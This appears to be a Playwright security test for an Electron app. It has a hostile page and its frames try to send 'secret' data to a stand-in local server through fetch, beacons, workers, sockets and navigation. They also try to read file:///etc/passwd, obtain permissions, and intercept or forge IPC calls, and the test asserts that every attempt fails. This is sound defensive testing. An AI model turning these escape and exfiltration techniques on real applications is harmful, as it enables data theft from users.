import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Frame, Page } from '@playwright/test';
import type { Wire } from '../../shared/contract.ts';
import { createCodec, nodeBase64 } from '../electron-double/clone.ts';
import { accountAt } from '../services/support/account.ts';
import { type AppUnderTest, test as base, expect } from './support/app.ts';
import { only } from './support/only.ts';
import { threeSteps } from './support/start.ts';

/** A server of somebody else, which should never hear of anything. */
interface Elsewhere {
  readonly url: string;
  readonly heard: readonly string[];
}

const test = base.extend<{ elsewhere: Elsewhere }>({
  // biome-ignore lint/correctness/noEmptyPattern: the test runner wants a pattern here.
  elsewhere: async ({}, use) => {
    const heard: string[] = [];
    const server = createServer((request, response) => {
      heard.push(`${request.method} ${request.url}`);
      response.end('<!doctype html><title>Elsewhere</title>');
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    await use({ url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/`, heard });
    server.close();
  },
});

only('preload');

const token = 'tok-5f1e0d2c9b7a';

async function saveToken(app: AppUnderTest, url: string): Promise<void> {
  const { id } = await app.call('account.save', { account: accountAt(url, { name: 'Northside' }) });
  await app.call('token.save', { accountId: id, token });
}

/** Has a page or frame try to get out by everything that loads something; answers how each attempt ended. */
function getOut(from: Page | Frame, url: string): Promise<Record<string, string>> {
  return from.evaluate(async (address) => {
    const ends: Record<string, string> = {};

    const asked = async (name: string, attempt: () => Promise<unknown>): Promise<void> => {
      ends[name] = await Promise.resolve()
        .then(attempt)
        .then(
          (got) => `got ${got}`,
          () => 'nothing',
        );
    };
    const loaded = (name: string, attributes: Record<string, string>): Promise<unknown> =>
      new Promise((resolve, reject) => {
        const element = document.createElement(name);
        element.addEventListener('load', () => resolve('it'));
        element.addEventListener('error', () => reject(new Error('not loaded')));
        document.body.append(Object.assign(element, attributes));
      });
    await asked('fetch', () => fetch(`${address}fetch`, { mode: 'no-cors' }));
    await asked('post', () => fetch(`${address}post`, { method: 'POST', mode: 'no-cors', body: 'secret' }));
    await asked('file', () => fetch('file:///etc/passwd'));
    await asked('image', () => loaded('img', { src: `${address}image?secret` }));
    await asked('script', () => loaded('script', { src: `${address}script` }));
    await asked('style', () => loaded('link', { rel: 'stylesheet', href: `${address}style` }));
    await asked('module', () => import(`${address}module`));
    await asked('request', async () => {
      const request = new XMLHttpRequest();
      request.open('GET', `${address}request`, false);
      request.send();
    });
    await asked('events', () => {
      const events = new EventSource(`${address}events`);
      return new Promise((resolve, reject) => {
        events.onopen = resolve;
        events.onerror = () => reject(events.close());
      });
    });
    await asked('worker', () => {
      const worker = new Worker(
        URL.createObjectURL(
          new Blob([
            `fetch('${address}worker', { mode: 'no-cors' }).then(() => postMessage('it'), () => postMessage(''))`,
          ]),
        ),
      );
      return new Promise((resolve, reject) => {
        worker.onmessage = ({ data }) => (data === '' ? reject(new Error('nothing')) : resolve(data));
        worker.onerror = reject;
      });
    });
    await asked('socket', () => {
      const socket = new WebSocket(`${address.replace('http', 'ws')}socket`);
      return new Promise((resolve, reject) => {
        socket.onopen = resolve;
        socket.onerror = reject;
      });
    });
    await asked('service worker', () => navigator.serviceWorker.register(`${address}service`));
    navigator.sendBeacon(`${address}beacon`, 'secret');
    return ends;
  }, url);
}

test('a hostile page under its policy finds nothing behind the wire and reaches nothing outside', async ({
  app,
  page,
  elsewhere,
}) => {
  await test.step('it finds the functions of the wire, and no token, module or unknown operation behind them', async () => {
    await saveToken(app, elsewhere.url);
    const found = await page.evaluate(async () => {
      const { tagline } = window as unknown as { tagline: Wire & Record<string, unknown> };
      const call = tagline.call as (operation: unknown, input: unknown, more?: unknown) => Promise<unknown>;
      const globals = [
        'require',
        'process',
        'module',
        'exports',
        'electron',
        'ipcRenderer',
        'Buffer',
        'global',
      ];
      const replaced = ((): string => {
        try {
          tagline.call = (() => null) as never;
          return String(Object.isFrozen(tagline));
        } catch {
          return 'refused';
        }
      })();
      const operations = [
        'no.such',
        'constructor',
        '__proto__',
        'toString',
        '',
        'token.read',
        'vault.read',
        7,
        null,
      ];
      const answers = await Promise.all(operations.map((operation) => call(operation, {}, 'more')));
      const uncloneable = await call('app.info', { inside: () => 1 }).then(
        () => 'taken',
        (error: Error) => error.message,
      );
      const lists = await Promise.all(
        ['account.list', 'app.info', 'settings.read', 'campaign.list'].map((one) => call(one, {})),
      );
      const made = await tagline.give?.(new File(['secret'], '/etc/passwd'));
      return {
        made,
        keys: Object.keys(tagline),
        isInheriting: Object.getPrototypeOf(tagline) === Object.prototype,
        globals: globals.filter((name) => name in window),
        replaced,
        kinds: answers.map((answer) => (answer as { error: { kind: string } }).error.kind),
        uncloneable,
        lists: JSON.stringify(lists),
      };
    });
    expect(found.keys).toEqual(['call', 'subscribe', 'give']);
    expect(found.made, 'a file that the page made is nowhere').toBeNull();
    expect(found.globals).toEqual([]);
    expect(found.replaced).not.toBe('false');
    expect(new Set(found.kinds)).toEqual(new Set(['not-found']));
    expect(found.uncloneable).toContain('could not be cloned');
    expect(found.lists).toContain('Northside');
    expect(found.lists).not.toContain(token);
  });

  // Threat: A page in a browser
  await test.step('it reaches no file and no network', async () => {
    const ends = await getOut(page, elsewhere.url);
    expect(Object.entries(ends).filter(([, end]) => end !== 'nothing')).toEqual([]);
    expect(elsewhere.heard).toEqual([]);
  });

  await test.step('it goes nowhere else, opens no window and is granted nothing', async () => {
    const windows = page.context().pages().length;
    const go = (way: string) =>
      page.evaluate(
        ([name, url]) => {
          const link = Object.assign(document.createElement('a'), { href: url });
          const form = Object.assign(document.createElement('form'), { action: url, method: 'post' });
          document.body.append(link, form);
          const ways: Record<string, () => void> = {
            address: () => location.assign(url),
            replace: () => location.replace(url),
            link: () => link.click(),
            'link to a new window': () => Object.assign(link, { target: '_blank' }).click(),
            form: () => form.submit(),
            open: () => void window.open(url),
            file: () => location.assign('file:///etc/passwd'),
            data: () => location.assign('data:text/html,<title>Elsewhere</title>'),
            refresh: () =>
              document.head.append(
                Object.assign(document.createElement('meta'), {
                  httpEquiv: 'refresh',
                  content: `0;url=${url}`,
                }),
              ),
          };
          ways[name]?.();
        },
        [way, elsewhere.url] as const,
      );
    for (const way of [
      'address',
      'replace',
      'link',
      'link to a new window',
      'form',
      'open',
      'file',
      'data',
      'refresh',
    ]) {
      await go(way);
      await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(resolve)));
      expect(new URL(page.url()).origin, way).toBe('https://tagline');
    }
    await expect.poll(() => page.context().pages().length).toBe(windows);
    await expect(threeSteps(page)).toBeVisible();
    expect(elsewhere.heard).toEqual([]);

    expect(await granted(page)).toEqual([]);
    const asked = await page.evaluate(async () => {
      const failed = (attempt: Promise<unknown>): Promise<string> =>
        attempt.then(
          () => 'granted',
          () => 'denied',
        );
      return {
        place: await failed(
          new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject)),
        ),
        camera: await failed(navigator.mediaDevices.getUserMedia({ video: true })),
        microphone: await failed(navigator.mediaDevices.getUserMedia({ audio: true })),
        clipboard: await failed(navigator.clipboard.readText()),
        notifications: await Notification.requestPermission(),
      };
    });
    expect(new Set(Object.values(asked))).toEqual(new Set(['denied']));
  });

  await test.step('one that replaces what JavaScript brings along sees nothing of what crosses the bridge', async () => {
    const found = await page.evaluate(async () => {
      const secret = 'no-7f3a91';
      const answered = 'app.noOperation';
      const seen = new Set<string>();
      const { apply } = Reflect;
      const { stringify } = JSON;
      const includes = String.prototype.includes;
      let isLooking = false;
      const look = (name: string, values: unknown): void => {
        if (isLooking) return;
        isLooking = true;
        try {
          const text = stringify(values) ?? '';
          for (const one of [secret, answered]) if (apply(includes, text, [one])) seen.add(name);
        } catch {
          // What has no text is not what is looked for.
        }
        isLooking = false;
      };
      const { tagline } = window as unknown as { tagline: Wire };
      for (const owner of [
        Array,
        Map,
        Promise,
        Object,
        Function,
        EventTarget,
        Event,
        CustomEvent,
        Reflect,
        JSON,
      ] as const) {
        for (const holder of [owner, 'prototype' in owner ? owner.prototype : null]) {
          if (holder === null) continue;
          for (const key of Reflect.ownKeys(holder)) {
            const own = Object.getOwnPropertyDescriptor(holder, key);
            if (own?.configurable !== true || key === 'constructor') continue;
            const name = `${owner === Reflect ? 'Reflect' : String((owner as { name?: string }).name)} ${String(key)}`;
            const spy = (real: unknown) =>
              typeof real !== 'function'
                ? real
                : function (this: unknown, ...args: unknown[]) {
                    look(name, [this, args]);
                    const answer: unknown = apply(real, this, args);
                    look(name, answer);
                    return answer;
                  };
            if ('value' in own) Object.defineProperty(holder, key, { ...own, value: spy(own.value) });
            else if (own.get)
              Object.defineProperty(holder, key, { ...own, get: spy(own.get) as () => unknown });
          }
        }
      }
      Object.assign(window, {
        Promise: class extends Promise<unknown> {},
        CustomEvent: class extends CustomEvent<unknown> {
          constructor(type: string, init?: CustomEventInit) {
            look('CustomEvent', init);
            super(type, init);
          }
        },
      });
      const answer = await tagline.call(secret as never, { inside: [secret] } as never);
      isLooking = true;
      return { seen: [...seen], answer: stringify(answer) };
    });
    expect(found.answer).toContain('app.noOperation');
    expect(found.seen).toEqual([]);
  });
});

/** What a page or frame may do of what it could ask for. */
function granted(from: Page | Frame): Promise<string[]> {
  return from.evaluate(async () => {
    const names = ['geolocation', 'camera', 'microphone', 'notifications', 'clipboard-read', 'midi'];
    const states = await Promise.all(
      names.map(async (name) => (await navigator.permissions.query({ name } as never)).state),
    );
    return names.filter((_, at) => states[at] !== 'denied');
  });
}

async function getRidOfPolicy(page: Page): Promise<void> {
  const devtools = await page.context().newCDPSession(page);
  await devtools.send('Page.setBypassCSP', { enabled: true });
  await page.reload();
  await expect(threeSteps(page)).toBeVisible();
}

test('a hostile page that got rid of its policy, and its frames, reach nothing either', async ({
  app,
  page,
  elsewhere,
}) => {
  await getRidOfPolicy(page);

  // Threat: A page in a browser
  await test.step('the page reaches no file and no network', async () => {
    const ends = await getOut(page, elsewhere.url);
    expect(Object.entries(ends).filter(([, end]) => end !== 'nothing')).toEqual([]);
    expect(elsewhere.heard).toEqual([]);
  });

  // Threat: A page in a browser
  await test.step('a frame has no wire, and main answers none of its calls', async () => {
    await page.reload();
    await expect(threeSteps(page)).toBeVisible();
    await page.evaluate(() => {
      const frame = Object.assign(document.createElement('iframe'), { srcdoc: '<title>Inside</title>' });
      frame.setAttribute('sandbox', 'allow-scripts');
      document.body.append(frame);
    });
    await expect.poll(() => page.frames().length).toBe(2);
    const frame = page.frames()[1] as Frame;
    await frame.waitForLoadState();
    const found = await frame.evaluate(() => {
      const reach = (): string => {
        try {
          return typeof (window.parent as unknown as { tagline: unknown }).tagline;
        } catch {
          return 'out of reach';
        }
      };
      return { own: 'tagline' in window, parents: reach(), origin: window.origin };
    });
    expect(found).toEqual({ own: false, parents: 'out of reach', origin: 'null' });
    const ends = await getOut(frame, elsewhere.url);
    expect(Object.entries(ends).filter(([, end]) => end !== 'nothing')).toEqual([]);
    expect(elsewhere.heard).toEqual([]);

    // As one would that broke out of its page into Electron's own world beside it.
    const before = (await app.call('campaign.list', { before: null })).rows.length;
    const sent = await callFromItsWorld(page, 'draft.create');
    expect(sent).toBe(1);
    expect((await app.call('campaign.list', { before: null })).rows).toHaveLength(before);
  });

  await test.step('a frame that is let do anything leads the page nowhere, opens no window and is granted nothing', async () => {
    await page.reload();
    await expect(threeSteps(page)).toBeVisible();
    const windows = page.context().pages().length;
    await page.evaluate(() => {
      const frame = Object.assign(document.createElement('iframe'), { srcdoc: '<title>Inside</title>' });
      frame.allow = 'geolocation; camera; microphone';
      document.body.append(frame);
    });
    await expect.poll(() => page.frames().length).toBe(2);
    const frame = page.frames()[1] as Frame;
    await frame.waitForLoadState();
    expect(await granted(frame)).toEqual([]);
    const ways = [
      'window.open(url)',
      'window.open(url, "_top")',
      'send("_blank")',
      'send("_top")',
      'top.location.assign(url)',
      'location.assign("file:///etc/passwd")',
      'location.assign(url)',
    ];
    for (const way of ways) {
      const send = `const send = (target) => {
      const form = Object.assign(document.createElement('form'), { action: url, method: 'post', target });
      document.body.append(form);
      form.submit();
    };`;
      // Where a frame is refused a place, an error may take its own.
      const inside = page.frames()[1];
      await inside
        ?.evaluate(`{ const url = ${JSON.stringify(elsewhere.url)}; ${send} ${way}; }`)
        .catch(() => {});
      await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(resolve)));
      expect(new URL(page.url()).origin, way).toBe('https://tagline');
    }
    await expect(threeSteps(page)).toBeVisible();
    expect(new URL(page.url()).origin).toBe('https://tagline');
    await expect.poll(() => page.context().pages().length).toBe(windows);
    expect(elsewhere.heard).toEqual([]);
  });
});

/** Sends main a call from the world of a preload in every frame but the page's own; answers from how many. */
async function callFromItsWorld(page: Page, operation: string): Promise<number> {
  const devtools = await page.context().newCDPSession(page);
  const { frameTree } = await devtools.send('Page.getFrameTree');
  const worlds: number[] = [];
  devtools.on('Runtime.executionContextCreated', ({ context }) => {
    const { frameId } = context.auxData as { frameId: string };
    if (context.name === 'Electron Isolated Context' && frameId !== frameTree.frame.id)
      worlds.push(context.id);
  });
  await devtools.send('Runtime.enable');
  const call = { type: 'invoke', id: 1, channel: 'tagline:call', args: [operation, {}] };
  let sent = 0;
  for (const contextId of worlds) {
    const { result } = await devtools.send('Runtime.evaluate', {
      contextId,
      returnByValue: true,
      expression: `(() => {
        const ways = Object.getOwnPropertyNames(globalThis).filter((name) => /^electron[0-9a-f]{32}$/.test(name));
        for (const way of ways) globalThis[way](${JSON.stringify(createCodec(nodeBase64).encode(call))});
        return ways.length;
      })()`,
    });
    sent += result.value as number;
  }
  return sent;
}
